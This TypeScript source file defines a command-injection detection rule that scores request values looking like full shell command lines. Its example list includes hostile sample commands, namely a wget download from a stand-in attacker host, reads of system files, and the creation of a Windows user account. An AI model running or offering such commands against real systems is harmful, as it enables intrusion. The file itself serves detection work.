import { type Command, fit } from '../../grammars/shell/command.ts';
import { commands } from '../../grammars/shell/commands.ts';
import { firstWord } from '../../grammars/shell/shell.ts';
import { wordTrait } from '../../grammars/shell/shell-character.ts';
import { introducer } from '../../grammars/shell/shell-introducer.ts';
import { wordAt } from '../../grammars/shell/shell-quiet.ts';
import { commandNames, developerTools, use } from '../../knowledge/commands.ts';
import { endsText, isSettings } from '../../placement/command-place.ts';
import { confidence } from '../../placement/confidence.ts';
import type { Subject } from '../../placement/subject.ts';
import { charClass } from '../../text/char-class.ts';
import type { Match, ValueRule } from '../rule.ts';

/** Of words and numbers alone a phrase is made: `chmod 777 meaning`, but for a few names. */
const signs: readonly string[] = [
  ...['-', '/', '.', '\\', '$', '>', '%', '{', "'", '"', '^', '|', '&', ';'],
  ...['net', 'reg ', 'wmic', 'ver'],
];

/** The whole value is a command line: `cat /etc/passwd`. */
export const commandLine: ValueRule = {
  id: 'cmdi.command-line',
  severity: 'high',
  score: confidence.strong,
  message: 'is a complete command line',
  trigger: { literals: [signs], charsMax: 2_000 },
  judge,
  examples: [
    'cat /etc/hosts',
    'wget http://evil.example.com/a.sh',
    'netstat -tulpn',
    'ping -n 30 127.0.0.1',
    "c'a't /etc/hosts",
    'net user eve Secret1 /add',
    'type C:\\Windows\\win.ini',
    ...['/usr/bin/id;', "perl -pe 's/a/`id`/'"],
    { body: { 'body.message': "perl -ne 'print if /a/' /etc/hosts" } },
  ],
  lookalikes: [
    {
      body: {
        'body.message':
          'RUN apt-get update && apt-get install -y gcc && rm -rf /var/lib/apt/lists/*',
      },
    },
    { body: { 'query.q': 'bash -c' } },
    { body: { 'query.term': 'lsb_release -a' } },
    { body: { 'x-codeSamples': [{ lang: 'cURL', source: 'curl -X POST https://api.test/v1' }] } },
    { body: { 'body.message': "perl -ne 'print if /foo/' file.txt" } },
    ...['perf/**/*.js', 'ls/**/*.ts', 'find -name in the old list', 'cat 6/6a cable'],
    ...['more news/sport', 'net worth of the company', 'sort by price', 'ls', 'time 12/3'],
    ...['cat -dog', 'head & shoulders'],
    '/usr/local/bin/node',
    '/files/*/list?page=2',
    'WC>3oq.*hF2x]^',
    '^\\w+:\\w+$',
    'chmod +x ./bin/run.js',
    'rm -rf ./dist && npm run build',
    'export PATH=/usr/local/ssl/bin:$PATH',
    'mkdir -p build/out && make all',
    `curl -X POST https://api.example.com/items -H "Authorization: Bearer $T" -d '{"a":1}'`,
    'pip <command> [options]',
    'hostname -V|--version|-h|--help       shows what it is',
    '/usr/lib/binfmt.d/*.conf',
  ],
};

function judge(subject: Subject): Match | undefined {
  const text = subject.text;
  if (!mayBeCommand(text, subject.classes)) return undefined;
  const command = subject.tokens(commands).list[0];
  if (command === undefined || command.head.introducer !== introducer.start) return undefined;
  const { head } = command;
  const score = isSettings(text, head) ? confidence.trace : scoreOf(text, command);
  return score > 0 && !isPhrase(text)
    ? { start: head.nameStart, end: command.end, score }
    : undefined;
}

function isPhrase(text: string): boolean {
  const lower = text.toLowerCase();
  return !signs.some((sign) => lower.includes(sign));
}

/** Most values begin with a word that is no command, and nothing that could hide one. */
function mayBeCommand(text: string, classes: number): boolean {
  const { start, end } = firstWord(text);
  const next = text.charCodeAt(end);
  if (commandNames.wordBetween(text, start, end) !== '') return true;
  const isPlain = next === 32 || next === 44 || next === 45 || end === text.length;
  if (isPlain) return false;
  if ((classes & charClass.backslash) === 0 && isHarmless(text, start, end)) return false;
  return hides.test(text.slice(end === start ? 0 : end, end + 24));
}

/**
 * Paths, addresses and types of documents, the values that look most like commands and are none:
 * `/api/v1`, `www.example.com`, `text/html`. What follows can change only the rest of their name.
 */
function isHarmless(text: string, start: number, end: number): boolean {
  const next = text.charCodeAt(end);
  if (next === 46) return end > start;
  if (next === 58) return end > start + 1;
  if (next !== 47) return false;
  if (end > start) return !programFolders.includes(text.slice(start, end).toLowerCase());
  const behind = wordAt(text, end + 1);
  const folder = text.slice(behind.start, behind.end).toLowerCase();
  return folder !== '' && !programFolders.some((one) => one.startsWith(folder));
}

const programFolders: readonly string[] = ['bin', 'sbin', 'usr', 'windows', 'winnt'];

/** Inside of a name: quotes, escapes, variables; before it: a folder of programs, a wildcard. */
const hides = /^(?:["'\\^$`]|[.:]|\s{0,8}["'({]{0,4}(?:\.?\/|[$%.]|[A-Za-z]:\\|[\\^]|usr\/|bin\/))/;

function scoreOf(text: string, command: Command): number {
  const { head, end } = command;
  if (usage.test(text.slice(end, end + 4))) return confidence.trace;
  const ends = text.slice(end).trim() === '' || endsText(text, end);
  const isWhole = ends || separators.includes(text.charAt(end));
  if ((command.hidden || command.hidesArgument) && command.fit !== fit.weak)
    return isWhole || (head.traits & wordTrait.ifs) !== 0 ? confidence.strong : confidence.hint;
  switch (command.fit) {
    case fit.full:
      return isWhole ? fullScore(text, command) : confidence.trace;
    case fit.sureAlone:
      if (!ends) return confidence.trace;
      return isTerminated(text) ? confidence.strong : confidence.hint;
    case fit.alone:
      return ends ? (isTerminated(text) ? confidence.likely : confidence.trace) : 0;
    default:
      return 0;
  }
}

function fullScore(text: string, command: Command): number {
  if (command.endsPlain) return confidence.trace;
  return isDaily(text, command) ? confidence.hint : confidence.strong;
}

/** What developers write down of their own work, and what may be a sentence. */
function isDaily(text: string, command: Command): boolean {
  const { name, uses } = command;
  // `pip <command> [options]`: placeholders of a manual.
  const words = text.slice(command.head.nameEnd, command.end).replace(placeholder, '');
  if (name === 'export' && assignment.test(words)) return true;
  if (developerTools.has(name) && !runsCode.test(words)) return true;
  if (isExample(text) || isBuildStep(text, words, command)) return true;
  if ((uses & use.text) !== 0 && !runs.test(words)) return true;
  return ((uses & use.english) !== 0 || name === 'chmod') && !surePath.test(words);
}

/** `id;`, `ls|`: a separator at the end is shell syntax. */
function isTerminated(text: string): boolean {
  return ';|&'.includes(text.charAt(text.length - 1));
}

/** `hostname -V|--version` */
const usage = /^\|--?[a-z]/i;
const placeholder = /<[a-z][\w-]{0,30}>/gi;
const separators = ';|&`$)\n';

/** `export PATH=/usr/local/bin:$PATH` runs nothing. */
const assignment = /^ {1,3}[A-Z_]{2,30}=[^`(|]{1,120}$/;

/** `curl -X POST https://… -H "…" -d '{…}'`: how the manual of an interface shows a call. */
function isExample(text: string): boolean {
  return text.startsWith('curl ') && header.test(text) && !sends.test(text);
}

const header = / -H ["'][A-Za-z-]{2,40}: /;
/** Files, output, other commands; options for files. */
const sends =
  /[@|<>`;]|\$\(|&&|\s-[A-Za-z]{0,6}[oOTKF]|\s--(?:output|remote-name|upload|config|form)/;

/** `rm -rf ./dist && npm run build`: a step of a project's own, with paths of its own. */
function isBuildStep(text: string, words: string, command: Command): boolean {
  if (!ownFile.test(words) || outside.test(words) || !preparing.has(command.name)) return false;
  return buildTool.test(text.slice(command.end, command.end + 24));
}

/** Commands that make room for what is built. */
const preparing: ReadonlySet<string> = new Set(['rm', 'mkdir', 'cp', 'mv', 'cd', 'touch']);
/** A file by its name: not `*`, not the directory as a whole. */
const ownFile =
  /^(?: {1,3}-[A-Za-z]{1,4}){0,3}(?: {1,3}(?:\.\/)?[\w-][\w.-]{0,40}(?:\/[\w.-]{1,40}){0,4}){1,6}\/? {0,3}$/;
const outside = /(?:^|[\s=])(?:\/|~|\.\.)|[A-Za-z]:\\|\/\//;
const buildTool = /^ ?&& ?(?:npm|yarn|pnpm|npx|tsc|vite|make|cargo|go build|mvn|gradle|docker) /;

/** `-c`, `-e`, `-r` with code; files of the system. */
const runsCode = / -[a-z]{0,3}[cer]\b ?['"]|\/etc\/|\/dev\/|[|>]/;

/** Output that goes somewhere, or comes from a command. */
const runs = /[>`]|\$\(/;

/**
 * Arguments that no sentence has: folders of a root file system, drives, options of ping and
 * the like.
 */
const surePath =
  /(?:^|[\s"'=])(?:\/(?:etc|var|tmp|home|usr|bin|sbin|proc|root|opt|dev|sys|boot|mnt|srv|lib|www)\b|[A-Za-z]:\\|%[A-Za-z]{4,20}%|https?:\/\/|-[a-z] \d{1,5} |\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|-[nc] ?\d)/;
